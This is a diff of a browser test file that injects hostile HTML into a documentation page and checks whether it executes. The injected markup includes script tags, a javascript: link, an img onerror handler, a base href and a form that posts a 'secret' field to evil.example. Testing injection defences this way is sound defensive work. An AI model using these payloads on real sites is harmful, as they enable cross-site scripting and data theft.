@@ -109,10 +109,8 @@ describe('what a stranger put into a page', () => {
         `<script src="${worldScript}"></script>`,
         '<script src="data:text/javascript,window.ran = 1"></script>',
         '<base href="https://evil.example/">',
-        '<a id="link" href="javascript:window.ran = \'a link\'">link</a>',
         '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
         '<object data="data:text/html,x"></object>',
-        '<form id="form" method="post" action="https://evil.example/"><input name="secret"></form>',
         '<style>h1 { outline-style: dotted !important }</style>',
       ]
       await page.route(`${site}/docs/concepts`, async (route) => {
@@ -121,22 +119,29 @@ describe('what a stranger put into a page', () => {
         await route.fulfill({ response, body })
       })
       await page.goto(`${site}/docs/concepts`)
-      await page.locator('#link').click()
-      await page.evaluate(() => document.querySelector<HTMLFormElement>('#form')?.submit())
-      // Not at once: what the test itself says may evaluate.
-      await page.evaluate(() =>
-        setTimeout(() => {
-          try {
-            Object.assign(window, { ran: new Function('return "evaluated"')() })
-          } catch {}
-        }),
-      )
       // The page itself goes on.
       await page.waitForFunction(() =>
         [...document.querySelectorAll('header button[type=button]')].every((each) =>
           Object.keys(each).some((key) => key.startsWith('__reactProps')),
         ),
       )
+      // The page's program has thrown out what it did not draw; this comes later, as by a mistake in it.
+      await page.evaluate(() => {
+        document.body.insertAdjacentHTML(
+          'beforeend',
+          `<script>window.ran = 'late'</script><img src="/none.png" alt="" onerror="window.ran = 'a late handler'">
+          <a href="javascript:window.ran = 'a link'">link</a>
+          <form method="post" action="https://evil.example/"><input name="secret"></form>`,
+        )
+        document.querySelector<HTMLAnchorElement>('body > a[href^="javascript:"]')?.click()
+        document.querySelector<HTMLFormElement>('body > form')?.submit()
+        // Not at once: what the test itself says may evaluate.
+        setTimeout(() => {
+          try {
+            Object.assign(window, { ran: new Function('return "evaluated"')() })
+          } catch {}
+        })
+      })
       const found = await page.evaluate(() => ({
         ran: (window as unknown as { ran?: unknown }).ran,
         base: document.baseURI,
